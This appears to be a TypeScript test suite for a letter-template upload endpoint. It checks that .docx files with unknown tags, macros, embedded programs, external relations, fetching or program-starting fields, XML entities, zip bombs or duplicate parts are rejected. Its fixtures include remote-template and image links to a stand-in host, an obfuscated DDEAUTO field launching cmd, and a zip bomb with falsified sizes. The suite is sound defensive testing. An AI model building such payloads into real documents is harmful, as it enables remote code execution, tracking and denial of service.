import PizZip from 'pizzip';
import {
  announcingFewer,
  documentOf,
  docxOf,
  openDocx,
  paragraph,
  relation,
  relations,
} from '../support/exports/docx.js';
import { download } from '../support/exports/download.js';
import { openWorld } from '../support/open-world.js';
import { opened } from '../support/opened.js';

const MB = 1024 * 1024;

describe('templates of letters', () => {
  const { api, admin } = opened(() => openWorld({ admin: 'admin@keystone.example' }));

  const replace = (content: Buffer) =>
    admin.put('/letter-templates/property', { template: content.toString('base64'), fileName: 'Ours.docx' });
  const refused = async (content: Buffer) => {
    const { status, body } = await replace(content);
    return { status, errors: (body['errors'] as { template?: string[] } | undefined)?.template };
  };
  const part = (name: string, content: string) => ({ [name]: content });

  describe('are refused with their tags', () => {
    it.each([
      ['an unknown tag', '{licenceNumber}', 'Unknown tag: {licenceNumber}'],
      ['one that docxtemplater would fill with XML', '{@licenseNumber}', 'Unknown tag: {@licenseNumber}'],
      ['one that every object has', '{constructor}', 'Unknown tag: {constructor}'],
      ['the scope itself', '{#licenseNumber}{.}{/}', 'Unknown tag: {.}'],
      ['an unknown picture', '{%logo}', 'Unknown tag: {%logo}'],
      ['an unknown section', '{#isUrgent}now{/isUrgent}', 'Unknown tag: {#isUrgent}'],
    ])('%s', async (_, text, message) => {
      const { status, errors } = await refused(docxOf([`Re: ${text}`]));
      expect([status, errors?.[0]]).toEqual([400, message]);
    });

    it('each of them, also in headers and across runs', async () => {
      const header = `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${paragraph('{top}')}</w:hdr>`;
      const cut = '<w:p><w:r><w:t>{fo</w:t></w:r><w:r><w:t>ot}</w:t></w:r></w:p>';
      const types = openDocx(docxOf([]))
        .xml('[Content_Types].xml')
        .replace(
          '</Types>',
          '<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/></Types>',
        );
      const parts = { 'word/document.xml': documentOf(cut), 'word/header1.xml': header, '[Content_Types].xml': types };
      const { errors } = await refused(docxOf([], parts));
      expect(errors?.toSorted()).toEqual(['Unknown tag: {foot}', 'Unknown tag: {top}']);
    });

    it.each([
      ['a tag that is not closed', '{licenseNumber', /unclosed/],
      ['a tag that is not opened', 'licenseNumber}', /unopened/],
      ['a section that is not closed', '{#licenseNumber} yes', /unclosed/],
      ['a section that is closed as another', '{#licenseNumber}{/licenseType}', /licenseType/],
    ])('%s, in words', async (_, text, words) => {
      const { status, errors } = await refused(docxOf([text]));
      expect([status, errors?.[0]]).toEqual([400, expect.stringMatching(words)]);
    });
  });

  describe('are refused by their content', () => {
    const outside = 'Selected file links to external content: ';
    const main = (kind: string) =>
      part(
        '[Content_Types].xml',
        openDocx(docxOf([]))
          .xml('[Content_Types].xml')
          .replace(/application\/vnd[^"]*main\+xml/, `application/vnd.ms-word.${kind}.main+xml`),
      );
    const field = (...runs: string[]) =>
      part(
        'word/document.xml',
        documentOf(`<w:p>${runs.map((run) => `<w:r><w:instrText>${run}</w:instrText></w:r>`).join('')}</w:p>`),
      );
    const rels = (...all: string[]) => part('word/_rels/document.xml.rels', relations(...all));

    it.each<[string, () => Buffer, string]>([
      ['text', () => Buffer.from('Dear {propertyName}'), 'Selected file must be a .docx file'],
      [
        'another zip',
        () => new PizZip().file('a.txt', 'a').generate({ type: 'nodebuffer' }),
        'Selected file must be a .docx file',
      ],
      ['half a .docx', () => docxOf(['x']).subarray(0, 300), 'Selected file must be a .docx file'],
      [
        'macros',
        () => docxOf(['x'], part('word/vbaProject.bin', 'x')),
        'Selected file holds macros or embedded programs',
      ],
      [
        'a macro document by its type',
        () => docxOf(['x'], main('document.macroEnabled')),
        'Selected file holds macros or embedded programs',
      ],
      [
        'an embedded program',
        () => docxOf(['x'], part('word/embeddings/a.xlsx', 'x')),
        'Selected file holds macros or embedded programs',
      ],
      [
        'an image from outside',
        () => docxOf(['x'], rels(relation('image', 'http://spy.example/a.png', 'External'))),
        `${outside}http://spy.example/a.png`,
      ],
      [
        'a template from outside',
        () =>
          docxOf(
            ['x'],
            part(
              'word/_rels/settings.xml.rels',
              relations(relation('attachedTemplate', 'http://spy.example/a.dotm', 'External')),
            ),
          ),
        `${outside}http://spy.example/a.dotm`,
      ],
      [
        'one whose mode is disguised',
        () => docxOf(['x'], rels(relation('image', 'http://spy.example/b', '&#69;xternal'))),
        `${outside}http://spy.example/b`,
      ],
      [
        'one behind a sign that ends tags',
        () => docxOf(['x'], rels(relation('image', 'http://spy.example/>', 'External'))),
        `${outside}http://spy.example/>`,
      ],
      ['another document inside', () => docxOf(['x'], rels(relation('aFChunk', 'a.html'))), `${outside}a.html`],
      [
        'a field that fetches, in pieces',
        () => docxOf([], field('INCLUDE', 'PICTURE "http://spy.example"')),
        `${outside}INCLUDEPICTURE`,
      ],
      ['a field that starts a program', () => docxOf([], field('&#68;DEAUTO cmd')), `${outside}DDEAUTO`],
      [
        'entities of its own',
        () => docxOf([], part('word/document.xml', `<!DOCTYPE a [<!ENTITY b "c">]>${documentOf('')}`)),
        'Selected file is damaged or protected by a password',
      ],
    ])('%s', async (_, content, message) => {
      expect(await refused(content())).toEqual({ status: 400, errors: [message] });
    });

    it('but links that a person may follow stay', async () => {
      const link = relation('hyperlink', 'https://boston.gov', 'External');
      expect((await replace(docxOf(['x'], rels(link)))).status).toBe(204);
    });

    it('a signature where no picture can stand', async () => {
      const core =
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{%signature}</dc:title></cp:coreProperties>';
      const types = openDocx(docxOf([]))
        .xml('[Content_Types].xml')
        .replace(
          '</Types>',
          '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>',
        );
      const { errors } = await refused(docxOf(['x'], { 'docProps/core.xml': core, '[Content_Types].xml': types }));
      expect(errors).toEqual(['The signature can only be placed in the text, in a header or in a footer']);
    });

    it('more than 5 MB', async () => {
      const { status, body } = await replace(Buffer.concat([docxOf(['x']), Buffer.alloc(5 * MB)]));
      expect([status, body['detail']]).toEqual([413, 'Selected file cannot exceed 5 MB']);
    });

    it('a file that unpacks to more than 30 MB, whatever size it states', async () => {
      const honest = docxOf(['x'], part('word/media/a.txt', 'a'.repeat(31 * MB)));
      expect(honest.length).toBeLessThan(MB);
      const bomb = 'Selected file unpacks to more than 30 MB';
      expect(await refused(honest)).toEqual({ status: 400, errors: [bomb] });
      const lying = Buffer.from(honest);
      const size = Buffer.alloc(4);
      size.writeUInt32LE(31 * MB);
      for (let offset = lying.indexOf(size); offset >= 0; offset = lying.indexOf(size, offset + 4))
        lying.writeUInt32LE(10, offset);
      expect(await refused(lying)).toEqual({ status: 400, errors: [bomb] });
    });

    it.each([
      ['more than 1 MB of text', ['x'.repeat(MB)]],
      ['more than 500 tags', Array.from({ length: 501 }, () => '{today}')],
    ])('%s', async (_, paragraphs) => {
      const message =
        'Selected file holds too much: a letter has at most 1 MB of text with its formatting, and 500 tags';
      expect(await refused(docxOf(paragraphs))).toEqual({ status: 400, errors: [message] });
    });

    it('other signs for tags than braces', async () => {
      const { errors } = await refused(docxOf(['{=[ ]=}', '[today]']));
      expect(errors).toEqual(['Unknown tag: {=[ ]=}']);
    });

    it('content that an archive does not announce is not stored', async () => {
      const hidden = {
        'word/_rels/settings.xml.rels': relations(
          relation('attachedTemplate', 'http://spy.example/a.dotm', 'External'),
        ),
        'word/vbaProject.bin': 'macros',
      };
      const answer = announcingFewer(docxOf(['Dear {propertyName}'], hidden), 2);
      expect(openDocx(answer).parts).toContain('word/vbaProject.bin');
      expect((await replace(answer)).status).toBe(204);
      for (const path of ['/letter-templates/property', '/letter-templates/property/sample']) {
        const { content } = await download(api, admin, path);
        const parts = openDocx(content).parts.filter((name) => !name.endsWith('/'));
        expect(parts.toSorted()).toEqual(['[Content_Types].xml', '_rels/.rels', 'word/document.xml']);
        expect(content.includes('vbaProject')).toBe(false);
      }
    });

    it.each<[string, Record<string, string>, string]>([
      [
        'a relation in capitals',
        part(
          'word/_rels/settings.xml.RELS',
          relations(relation('attachedTemplate', 'http://spy.example/c', 'External')),
        ),
        `${outside}http://spy.example/c`,
      ],
      [
        'a field in a part of any name',
        part(
          'word/note.abc',
          documentOf('<w:p><w:r><w:instrText>INCLUDETEXT "http://spy.example"</w:instrText></w:r></w:p>'),
        ),
        `${outside}INCLUDETEXT`,
      ],
      [
        'two parts whose names differ in capitals',
        part('Word/Document.xml', documentOf(paragraph('{unknown}'))),
        'Selected file is damaged or protected by a password',
      ],
    ])('%s', async (_, parts, message) => {
      expect(await refused(docxOf(['x'], parts))).toEqual({ status: 400, errors: [message] });
    });

    it('two parts of one name', async () => {
      const twice = docxOf(['x'], part('word/documenu.xml', documentOf(paragraph('{unknown}'))));
      const name = Buffer.from('word/documenu.xml');
      for (let offset = twice.indexOf(name); offset >= 0; offset = twice.indexOf(name))
        twice.write('word/document.xml', offset);
      expect(await refused(twice)).toEqual({
        status: 400,
        errors: ['Selected file is damaged or protected by a password'],
      });
    });
  });
});
